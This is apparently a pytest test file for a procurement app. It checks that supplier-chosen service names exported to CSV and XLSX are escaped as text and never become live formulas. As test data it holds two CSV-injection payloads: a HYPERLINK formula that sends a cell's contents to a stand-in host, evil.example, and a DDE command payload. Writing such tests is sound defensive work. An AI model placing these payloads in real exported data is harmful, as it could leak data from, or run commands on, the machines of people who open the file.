"""A name a supplier chose never becomes a live formula in a downloaded CSV or XLSX (CSV injection)."""

from __future__ import annotations

import csv
import io
import zipfile

from tests.contracting.buying import people_of, publish

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"클릭")'


def test_a_service_named_like_a_formula_is_written_as_text(client, demo):
    code = publish(demo, people_of(demo).supplier, HOSTILE)
    publish(demo, people_of(demo).supplier, "@SUM(1+1)*cmd|' /C calc'!A0")

    response = client.get("/api/v1/exports/catalog.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    name = rows[0].index("서비스명")
    by_code = {row[0]: row for row in rows[1:]}
    assert by_code[code][name] == "'" + HOSTILE
    assert all(not row[name].startswith(("=", "@", "+", "-")) for row in rows[1:])

    book = client.get("/api/v1/exports/catalog.xlsx").content
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        xml = "".join(archive.read(n).decode("utf-8") for n in sheets)
    assert "<f>" not in xml and "<f " not in xml  # no formula in any cell
    assert "HYPERLINK" in xml  # the name is there, as text
